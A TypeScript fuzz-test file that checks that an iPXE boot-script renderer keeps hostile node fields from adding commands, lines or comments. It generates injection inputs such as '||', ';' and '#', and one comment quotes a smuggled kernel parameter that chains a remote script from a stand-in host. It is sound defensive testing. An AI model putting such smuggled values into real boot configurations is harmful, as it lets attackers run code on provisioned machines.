import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { BootAction, BootBackend, BootHost } from '../../../../pxe/backend.js';
import { answerScript } from '../../../../pxe/http/scripts.js';
import {
  IpxeScriptError,
  renderErrorScript,
  renderHostScript,
  renderUnknownHostScript,
  type BootMode,
  type ScriptOptions,
} from '../../../../pxe/ipxe/index.js';
import { fuzz, fuzzTimeout } from '../../../support/fuzz.js';

// Node fields end up in iPXE scripts (kernel_append_params, deploy_kernel,
// ramdisk_kernel_arguments, names): whatever they hold, the renderer either
// throws IpxeScriptError or writes a script whose commands are the template's,
// as iPXE itself reads them (core/exec.c: a line is split at whitespace, a
// token "||", "&&" or ";" ends a command, a token starting with "#" ends the
// line). Input never adds a line, a command or a comment.

/** iPXE's isspace(): what separates tokens in a script line. */
const IPXE_SPACE = /[ \t\n\v\f\r]+/;
const TERMINATORS = ['||', '&&', ';'];

/** A line as iPXE's `system()` splits it: each command's name and what ends it; a comment ends the line. */
function commandsOf(line: string): string[] {
  if (line.startsWith(':')) return ['label'];
  const shape: string[] = [];
  let name: string | null = null;
  for (const token of line.split(IPXE_SPACE).filter(Boolean)) {
    if (token.startsWith('#')) break;
    if (TERMINATORS.includes(token)) {
      shape.push(name ?? '', token);
      name = null;
    } else name ??= token;
  }
  if (name !== null) shape.push(name);
  return shape;
}

/** Lines that carry input: the title comment, echoes, and the kernel and initrd lines. */
const CARRIES_INPUT = /^(# Anvil: |echo |kernel |initrd )/;

/**
 * `script` has the lines of `baseline` (the same template rendered from plain
 * inputs): as many, those that carry no input identical, each starting with
 * the same command; no control character but the line ends; comments and
 * echoes gain no `${` (iPXE would expand it).
 */
function expectSameLines(script: string, baseline: string): void {
  expect(script).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
  expect(script.startsWith('#!ipxe\n')).toBe(true);
  expect(script.endsWith('\n')).toBe(true);
  const lines = script.split('\n');
  const expected = baseline.split('\n');
  expect(lines.length).toBe(expected.length);
  lines.forEach((line, i) => {
    const base = expected[i]!;
    if (!CARRIES_INPUT.test(base)) {
      expect(line).toBe(base);
      return;
    }
    expect(line.split(' ')[0]).toBe(base.split(' ')[0]);
    if (base.startsWith('#') || base.startsWith('echo ')) {
      expect(line.split('${').length, `line ${i}: ${line}`).toBe(base.split('${').length);
    }
  });
}

/** Each line of `script` runs the commands of the same line of `baseline`, ended the same way. */
function expectSameCommands(script: string, baseline: string): void {
  const expected = baseline.split('\n');
  script.split('\n').forEach((line, i) => {
    expect(commandsOf(line), `line ${i}: ${line}`).toEqual(commandsOf(expected[i]!));
  });
}

const odd = fc.constantFrom(
  ' ',
  '\n',
  '\r',
  '\t',
  '\0',
  '\x7f',
  '\u0085',
  '\u00a0',
  '\u2028',
  '#',
  '${',
  '}',
  '||',
  '&&',
  ';',
  ':',
  '"',
  "'",
  '\\',
  '%0a',
  'é',
  '🚀',
);
/** Text made of ordinary characters and the ones a script cares about. */
const oddText = (maxLength: number) =>
  fc
    .array(fc.oneof({ weight: 3, arbitrary: fc.string({ maxLength: 6 }) }, odd), { maxLength })
    .map((parts) => parts.join(''));

const url = fc.oneof(
  fc.constantFrom('http://192.0.2.1:8080/boot-files/ipa.kernel', 'https://[2001:db8::1]/k', 'ipa.kernel', ''),
  oddText(8).map((path) => `http://192.0.2.1:8080/${path}`),
  oddText(8).map((path) => `https://images.example/${path}?sig=${path}`),
  fc.constantFrom('ftp://x/k', 'file:///k', 'http://', 'http:// x', 'tftp://192.0.2.1/k', 'javascript:1'),
  oddText(10),
);

const param = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('console=ttyS0,115200n8', 'nofb', 'ipa-insecure=1', 'ip=${ip}') },
  fc.constantFrom('||', '&&', ';', '#', '#comment', 'BOOTIF=01-aa', 'initrd=other', '--name', 'a||b', 'x;y'),
  oddText(6),
);

/** Parameters as services/boot builds them (a string split at whitespace), or as any list. */
const params = fc.oneof(
  oddText(12).map((text) => text.split(/\s+/).filter(Boolean)),
  fc.array(param, { maxLength: 6 }),
);

const boot: fc.Arbitrary<BootAction> = fc.oneof(
  fc.record({
    kind: fc.constantFrom('agent' as const, 'ramdisk' as const),
    kernelUrl: url,
    ramdiskUrl: url,
    kernelParams: params,
  }),
  fc.constant({ kind: 'local-disk' as const }),
  fc.constant({ kind: 'exit' as const }),
);

const mac = fc
  .uint8Array({ minLength: 6, maxLength: 6 })
  .map((b) => [...b].map((x) => x.toString(16).padStart(2, '0')).join(':'));

const bootMode = fc.constantFrom<BootMode | null>('bios', 'uefi', null);

const number = fc.oneof(fc.integer({ min: -5, max: 4000 }), fc.constantFrom(0.5, Number.NaN, Infinity, 1e9));
const options: fc.Arbitrary<ScriptOptions> = fc.record(
  { fetchAttempts: number, retryDelaySeconds: number },
  { requiredKeys: [] },
);

/** The same boot with plain values: the template the fuzzed script must keep the shape of. */
function plain(action: BootAction): BootAction {
  if (action.kind !== 'agent' && action.kind !== 'ramdisk') return action;
  return { kind: action.kind, kernelUrl: 'http://k/k', ramdiskUrl: 'http://r/r', kernelParams: ['p'] };
}

function rendered(render: () => string): string | null {
  try {
    return render();
  } catch (error) {
    expect(error).toBeInstanceOf(IpxeScriptError);
    expect((error as IpxeScriptError).field).not.toBe('');
    return null;
  }
}

describe('iPXE scripts from hostile node fields (fuzz)', { timeout: fuzzTimeout(5_000) }, () => {
  it("a host's script is IpxeScriptError or the template's lines, whatever the fields hold", async () => {
    await fuzz(
      fc.property(mac, oddText(10), boot, bootMode, options, (address, nodeUuid, action, mode, opts) => {
        const script = rendered(() => renderHostScript({ mac: address, nodeUuid, boot: action }, mode, opts));
        if (script === null) return;
        expectSameLines(script, renderHostScript({ mac: address, nodeUuid: 'n', boot: plain(action) }, mode, opts));
      }),
      { runs: 1500 },
    );
  });

  it("an unknown host's discovery script is IpxeScriptError or the template's lines", async () => {
    await fuzz(
      fc.property(mac, url, url, params, options, (address, kernelUrl, ramdiskUrl, kernelParams, opts) => {
        const policy = { kind: 'discovery' as const, kernelUrl, ramdiskUrl, kernelParams };
        const script = rendered(() => renderUnknownHostScript(address, policy, opts));
        if (script === null) return;
        const base = {
          kind: 'discovery' as const,
          kernelUrl: 'http://k/k',
          ramdiskUrl: 'http://r/r',
          kernelParams: [],
        };
        expectSameLines(script, renderUnknownHostScript(address, base, opts));
      }),
      { runs: 800 },
    );
  });

  it('GET /boot/<mac>.ipxe answers the template, or the error script, for any host the backend holds', async () => {
    const host = fc.record({
      mac,
      nodeUuid: oddText(6),
      hostname: fc.option(oddText(6), { nil: null }),
      lease: fc.constant(null),
      boot,
    });
    await fuzz(
      fc.asyncProperty(fc.option(host, { nil: null }), bootMode, options, async (found, mode, opts) => {
        const backend = { getByMac: async () => found } as unknown as BootBackend;
        const address = found?.mac ?? '52:54:00:00:00:01';
        const context = {
          backend,
          unknownHosts: { kind: 'exit' as const },
          script: opts,
          bootFilesUrl: 'http://192.0.2.1:8080/boot-files/',
        };
        const answer = await answerScript(address, mode, context);
        expect(answer.status).toBe(200);
        expect(answer.known).toBe(found !== null);
        if (answer.renderError !== undefined) {
          expect(answer.renderError).toBeInstanceOf(IpxeScriptError);
          // The reason is the error's own words (a field name and a fixed sentence), never the field's value.
          const script = renderErrorScript(address, 'r');
          expectSameLines(answer.body, script);
          expectSameCommands(answer.body, script);
          return;
        }
        const expected =
          found === null
            ? renderUnknownHostScript(address, { kind: 'exit' }, opts)
            : renderHostScript({ ...(found as BootHost), nodeUuid: 'n', boot: plain(found.boot) }, mode, opts);
        expectSameLines(answer.body, expected);
      }),
      { runs: 800 },
    );
  });

  // Found by this property: a kernel parameter that is exactly "||", "&&" or ";" ends the kernel command and
  // starts another (`kernel_append_params: "nofb ; chain http://elsewhere/x"`), one starting with "#" drops the
  // rest of the line (the `|| goto wait` retry).
  it('kernel parameters never end the kernel command or comment out its retry (iPXE reads ||, &&, ; and # there)', async () => {
    await fuzz(
      fc.property(mac, boot, bootMode, (address, action, mode) => {
        const script = rendered(() => renderHostScript({ mac: address, nodeUuid: 'n', boot: action }, mode));
        if (script === null) return;
        expectSameCommands(script, renderHostScript({ mac: address, nodeUuid: 'n', boot: plain(action) }, mode));
      }),
      { runs: 1500 },
    );
  });
});
